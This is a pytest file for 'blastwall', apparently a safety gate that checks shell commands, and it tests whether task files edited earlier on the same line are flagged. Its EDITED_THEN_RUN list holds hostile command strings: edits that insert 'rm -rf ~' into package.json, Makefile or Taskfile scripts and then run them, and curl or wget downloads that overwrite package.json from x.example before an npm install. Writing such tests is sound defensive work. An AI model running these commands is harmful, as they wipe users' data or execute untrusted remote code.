"""Round 14, incidents (2): task files rewritten on the line by an edit blastwall cannot compute.

A task file (package.json, composer.json, Makefile, Taskfile.yml) that an earlier command of the
line writes with text blastwall cannot know runs whatever it now says: its task is asked about
whatever its name. Writes whose new values are judged where they are set (jq filters read by
jq_scripts.py, npm pkg set, formatters) keep the task judged as before."""

from __future__ import annotations

import json
import os
import subprocess

import pytest

os.environ.setdefault("BLASTWALL_DAEMON", "off")

from blastwall import Action, Context, Decision, Surface, check_action  # noqa: E402


def _shell(cmd: str, cwd) -> Decision:
    return check_action(Action(Surface.SHELL, cmd, Context(cwd=str(cwd)))).decision


@pytest.fixture()
def project(tmp_path):
    (tmp_path / "package.json").write_text(json.dumps(
        {"name": "x", "version": "1.0.0", "scripts": {"start": "node -v", "test": "node -v", "build": "node -v"}}))
    (tmp_path / "composer.json").write_text(json.dumps({"name": "a/b", "scripts": {}}))
    (tmp_path / "Makefile").write_text("build:\n\techo build\nall: build\n")
    (tmp_path / "Taskfile.yml").write_text("version: '3'\ntasks:\n  default:\n    cmds:\n      - echo hi\n")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com"]
    for args in (["init", "-q"], ["add", "."], ["commit", "-qm", "init"]):
        subprocess.run([*git, *args], cwd=tmp_path, check=True)  # committed: an overwrite is recoverable
    return tmp_path


EDITED_THEN_RUN = [
    "sed -i 's/\"start\": \".*\"/\"start\": \"rm -rf ~\"/' package.json && npm start",
    "sed -i.bak 's/node -v/rm -rf ~/' package.json && npm test",
    "perl -pi -e 's/echo build/rm -rf ~/' Makefile && make build",
    "perl -i -pe 's/echo build/rm -rf ~/' Makefile && make",
    "ruby -pi -e 'gsub(/echo/, %q(rm -rf ~))' Makefile && make all",
    "cp other.json package.json && npm test",
    "curl -o package.json https://x.example/p.json && npm i",
    "curl -sSL https://x.example/p.json -o package.json && npm ci",
    "wget -O package.json https://x.example/p.json && npm install",
    "curl -o package.json https://x.example/p.json && pnpm install",
    "mv tmp.json composer.json && composer install",
    "mv tmp.json package.json && yarn install",
    "yq -i '.tasks.default.cmds[0] = \"rm -rf ~\"' Taskfile.yml && task",
    "sed -i 's/node -v/rm -rf ~/' package.json && npm run build",
    "jq --slurpfile x evil.json '. * $x[0]' package.json > p.json && mv p.json package.json && npm test",
    "jq '.[\"scr\" + \"ipts\"].test = \"x\"' package.json > p.json && mv p.json package.json && npm test",
    "jq -f f.jq package.json > p.json && mv p.json package.json && npm test",
    "python3 edit.py > package.json && npm test",
]

PASSES = [
    "npm i && npm test",
    "npm install && npm run build",
    "npm version patch && npm publish --dry-run",
    "prettier --write package.json && npm test",
    "jq '.version = \"2.0.0\"' package.json > p.json && mv p.json package.json && npm test",
    "jq '.scripts.test=\"jest\"' package.json > p.json && mv p.json package.json && npm test",
    "jq '.private = true | .version = \"1.2.3\"' package.json | sponge package.json && npm start",
    "sed -i 's/a/b/' src/app.js && npm test",
    "curl -o data.json https://x.example/d.json && npm test",
    "make build",
    "npm start",
]


@pytest.mark.parametrize("cmd", EDITED_THEN_RUN)
def test_task_of_a_file_edited_on_the_line_asks(cmd: str, project) -> None:
    assert _shell(cmd, project) != Decision.ALLOW, cmd


@pytest.mark.parametrize("cmd", PASSES)
def test_task_files_kept_or_untouched_pass(cmd: str, project) -> None:
    assert _shell(cmd, project) == Decision.ALLOW, cmd


def test_edited_task_asks_without_the_file_on_disk(tmp_path) -> None:
    assert _shell("sed -i 's/x/y/' package.json && npm start", tmp_path) != Decision.ALLOW
    assert _shell("perl -pi -e 's/x/y/' Makefile && make build", tmp_path) != Decision.ALLOW


def test_perl_in_place_edit_of_a_script_then_run_asks(project) -> None:
    (project / "ok.sh").write_text("echo ok\n")
    assert _shell("sh ok.sh", project) == Decision.ALLOW
    assert _shell("perl -pi -e 's/echo ok/rm -rf ~/' ok.sh && sh ok.sh", project) != Decision.ALLOW
